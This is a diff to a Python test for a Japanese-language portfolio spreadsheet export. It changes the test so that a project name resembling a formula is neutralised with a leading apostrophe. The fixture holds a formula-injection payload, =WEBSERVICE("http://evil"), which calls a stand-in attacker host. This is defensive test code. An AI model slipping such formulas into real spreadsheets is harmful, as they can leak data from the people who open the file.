@@ -77,10 +77,10 @@ def test_dates_are_in_the_japanese_era_and_yen_are_whole_numbers_with_grouping(c
     assert row["実績進捗率（%）"].value == 30
 
 
-def test_a_name_that_looks_like_a_formula_stays_text(cio, division):
+def test_a_name_that_looks_like_a_formula_is_made_inert(cio, division):
     ProjectFactory(code="DX-1", name='=WEBSERVICE("http://evil")', division=division)
     sheet = workbook(cio.get("/portfolio/export.xlsx"))["ポートフォリオ"]
-    assert sheet["B2"].value == '=WEBSERVICE("http://evil")'
+    assert sheet["B2"].value == '\'=WEBSERVICE("http://evil")'
     assert sheet["B2"].data_type == "s"
 
 
